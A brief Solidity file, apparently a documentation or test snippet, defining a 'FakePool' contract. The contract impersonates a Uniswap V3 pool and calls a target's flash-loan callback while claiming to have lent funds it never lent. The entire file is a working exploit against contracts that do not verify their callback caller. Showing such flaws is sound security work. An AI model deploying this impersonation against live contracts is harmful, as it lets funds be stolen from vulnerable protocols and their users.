// SPDX-License-Identifier: GPL-2.0-or-later
pragma solidity =0.7.6;

import '@uniswap/v3-core/contracts/interfaces/IUniswapV3Pool.sol';
import '@uniswap/v3-core/contracts/interfaces/callback/IUniswapV3FlashCallback.sol';

// #region fake-pool
/// @notice Answers as the pool does that it copies. Only its address differs.
contract FakePool {
    address public immutable factory;
    address public immutable token0;
    address public immutable token1;
    uint24 public immutable fee;

    constructor(IUniswapV3Pool copied) {
        factory = copied.factory();
        token0 = copied.token0();
        token1 = copied.token1();
        fee = copied.fee();
    }

    /// @notice Claims to have lent what `data` says, without having lent anything.
    function attack(IUniswapV3FlashCallback target, bytes calldata data) external {
        target.uniswapV3FlashCallback(0, 0, data);
    }
}
// #endregion fake-pool
